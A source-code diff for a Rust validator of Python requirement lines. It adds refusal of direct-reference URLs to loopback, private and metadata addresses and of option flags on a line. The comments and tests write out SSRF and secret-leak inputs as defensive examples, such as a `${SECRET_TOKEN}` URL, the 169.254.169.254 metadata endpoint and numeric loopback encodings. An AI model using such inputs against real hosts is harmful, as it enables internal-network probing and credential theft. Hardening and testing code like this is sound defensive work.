@@ -83,7 +83,7 @@ pub fn cache_key(python_version: &str, requirements: &[String]) -> String {
 
 /// Why `requirement` cannot be one line of the `requirements.in` uv compiles, or `None`:
 /// core's rules ([`PackageSpec::requirement_problem`]: empty, a leading `-`, CR, LF or NUL),
-/// then two that uv's (and pip's) requirements-file parsing would otherwise act on:
+/// then those uv's (and pip's) requirements-file parsing would otherwise act on:
 ///
 /// - a `$`: uv expands `${VAR}` from the environment it runs in (the host's), so
 ///   `six @ http://host/${SECRET_TOKEN}/six.whl` would send a host secret to that URL and
@@ -96,8 +96,11 @@ pub fn cache_key(python_version: &str, requirements: &[String]) -> String {
 ///   requirement written by a task could read a host file the machine cannot see (a wheel
 ///   in `/root`, any git repository). A requirement is a PyPI name with its version and
 ///   markers, or a direct reference to an `http`, `https`, `git+http` or `git+https` URL
-///   (PEP 508's `name @ URL`, or the bare URL uv also takes); a path, a file name ending in
-///   an archive suffix (`.whl`, `.tar.gz`, `.zip`, ...) or another URL scheme is refused.
+///   (PEP 508's `name @ URL`, or the bare URL uv also takes) on a public host (not this
+///   host or a private network address: see `url_host_problem`); a path, a file name ending
+///   in an archive suffix (`.whl`, `.tar.gz`, `.zip`, ...) or another URL scheme is refused.
+/// - Options: a word after the first that starts with `-` (`six==1.17.0 --hash=...`, which
+///   uv's requirements file would take as the line's own option).
 pub fn requirement_problem(requirement: &str) -> Option<&'static str> {
     if let Some(problem) = PackageSpec::requirement_problem(requirement) {
         Some(problem)
@@ -110,6 +113,15 @@ pub fn requirement_problem(requirement: &str) -> Option<&'static str> {
         Some(
             "a requirement must not contain a backslash (a requirements file joins a line \
              ending in one to the next)",
+        )
+    } else if requirement
+        .split_whitespace()
+        .skip(1)
+        .any(|word| word.starts_with('-'))
+    {
+        Some(
+            "a requirement must not carry options (` --hash=...`, ` -e`): uv's requirements \
+             file takes them on a requirement's line",
         )
     } else {
         host_file_problem(requirement.trim())
@@ -139,9 +151,9 @@ fn host_file_problem(requirement: &str) -> Option<&'static str> {
         Some((_, url)) => url.trim(),
         None => head,
     };
-    if let Some((scheme, _)) = reference.split_once("://") {
+    if let Some((scheme, rest)) = reference.split_once("://") {
         return if DIRECT_REFERENCE_SCHEMES.contains(&scheme.trim()) {
-            None
+            url_host_problem(rest)
         } else {
             Some(
                 "a direct reference must be an http, https, git+http or git+https URL (uv \
@@ -154,6 +166,60 @@ fn host_file_problem(requirement: &str) -> Option<&'static str> {
         || head.split_once('@').is_some()
         || ARCHIVE_SUFFIXES.iter().any(|s| reference.ends_with(s));
     looks_like_path.then_some(LOCAL)
+}
+
+/// [`requirement_problem`]'s rule for the host of a direct reference (`rest` is the URL
+/// after `scheme://`): uv fetches it from the host running the resolve, whatever network
+/// the machine is given, so a requirement must not make the host reach itself or its
+/// private networks (issue 12's break-it pass: `pkg @ http://127.0.0.1:8765/...` under
+/// `--network deny`). Refused: `localhost` and `*.localhost`, IP literals that are
+/// loopback, private (10/8, 172.16/12, 192.168/16, fc00::/7), link-local (169.254/16,
+/// fe80::/10), unspecified or shared (100.64/10), and hosts written as numbers (`2130706433`,
+/// `0x7f.1`: URL parsers read them as IPv4 addresses). A DNS name is not resolved here: one
+/// that resolves to a private address is fetched (factories whose hosts must not, firewall
+/// the host).
+fn url_host_problem(rest: &str) -> Option<&'static str> {
+    const PRIVATE: &str = "a direct reference must not name this host or a private network \
+                           address (uv fetches it from the host, whatever the machine's \
+                           network): use a public URL or a PyPI name";
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    let host = if let Some(v6) = host_port.strip_prefix('[') {
+        v6.split(']').next().unwrap_or("")
+    } else {
+        host_port.split(':').next().unwrap_or("")
+    };
+    let host = host.trim_end_matches('.').to_ascii_lowercase();
+    if host.is_empty() || host == "localhost" || host.ends_with(".localhost") {
+        return Some(PRIVATE);
+    }
+    let private = match host.parse::<std::net::IpAddr>() {
+        Ok(std::net::IpAddr::V4(v4)) => private_v4(v4),
+        Ok(std::net::IpAddr::V6(v6)) => {
+            v6.is_loopback()
+                || v6.is_unspecified()
+                || (v6.segments()[0] & 0xfe00) == 0xfc00
+                || (v6.segments()[0] & 0xffc0) == 0xfe80
+                || v6.to_ipv4_mapped().is_some_and(private_v4)
+        }
+        // Numbers a URL parser reads as an IPv4 address (decimal, octal, hex parts).
+        Err(_) => {
+            host.split('.').all(|part| {
+                !part.is_empty() && part.chars().all(|c| c.is_ascii_hexdigit() || c == 'x')
+            }) && host.starts_with(|c: char| c.is_ascii_digit())
+        }
+    };
+    private.then_some(PRIVATE)
+}
+
+fn private_v4(v4: std::net::Ipv4Addr) -> bool {
+    let [a, b, ..] = v4.octets();
+    v4.is_loopback()
+        || v4.is_private()
+        || v4.is_link_local()
+        || v4.is_unspecified()
+        || v4.is_broadcast()
+        || (a == 100 && (64..128).contains(&b))
 }
 
 /// Checks, trims, sorts and deduplicates requirement lines.
@@ -575,7 +641,9 @@ mod tests {
             "six==1.17.0; python_version >= '3.8'",
             "requests[socks]~=2.31",
             "six @ https://files.example/six-1.17.0-py2.py3-none-any.whl",
-            "six@http://127.0.0.1:8765/six-1.17.0-py2.py3-none-any.whl",
+            "six@http://93.184.215.14:8765/six-1.17.0-py2.py3-none-any.whl",
+            "six @ https://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/six.whl",
+            "six @ https://1files.example/six.whl",
             "pkg @ git+https://git@example.org/org/pkg.git@v1",
             "https://files.example/six-1.17.0-py2.py3-none-any.whl",
         ] {
@@ -615,6 +683,27 @@ mod tests {
             "pkg @ git+ssh://git@host/repo",
             "pkg @ svn+https://host/repo",
             "pkg @ ftp://host/pkg.whl",
+            // Options on the line (uv takes them from a requirements file).
+            "six==1.17.0 --hash=sha256:0000",
+            "six -e .",
+            // The host itself and private networks (uv fetches from the host).
+            "six@http://127.0.0.1:8765/six-1.17.0-py2.py3-none-any.whl",
+            "six @ http://localhost/six.whl",
+            "six @ https://pkgs.LOCALHOST./six.whl",
+            "six @ http://user:pw@10.1.2.3/six.whl",
+            "six @ http://192.168.0.1:80/six.whl",
+            "six @ http://172.16.0.9/six.whl",
+            "six @ http://169.254.169.254/latest/meta-data",
+            "six @ http://100.64.0.1/six.whl",
+            "six @ http://0.0.0.0/six.whl",
+            "six @ http://[::1]:8080/six.whl",
+            "six @ http://[fd00::1]/six.whl",
+            "six @ http://[fe80::1]/six.whl",
+            "six @ http://[::ffff:127.0.0.1]/six.whl",
+            "six @ http://2130706433/six.whl",
+            "six @ http://0x7f.1/six.whl",
+            "pkg @ git+https://git@127.0.0.1/org/pkg.git",
+            "https://10.0.0.1/six-1.17.0-py2.py3-none-any.whl",
         ] {
             assert!(
                 matches!(
